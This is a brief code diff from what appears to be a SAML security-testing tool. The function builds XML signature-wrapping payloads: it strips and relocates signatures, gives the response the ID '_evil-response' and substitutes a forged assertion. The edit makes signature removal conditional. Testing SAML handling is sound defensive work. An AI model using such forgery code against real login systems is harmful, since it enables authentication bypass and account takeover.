@@ -46,7 +46,9 @@ def _around_response(
     original.remove(original.find("ds:Signature", NS))
     root.set("ID", "_evil-response")
     root.replace(assertion, forged)
-    forged.remove(forged.find("ds:Signature", NS))
+    own = forged.find("ds:Signature", NS)
+    if own is not None:
+        forged.remove(own)
     if variant == 1:
         signature.append(original)
     else:
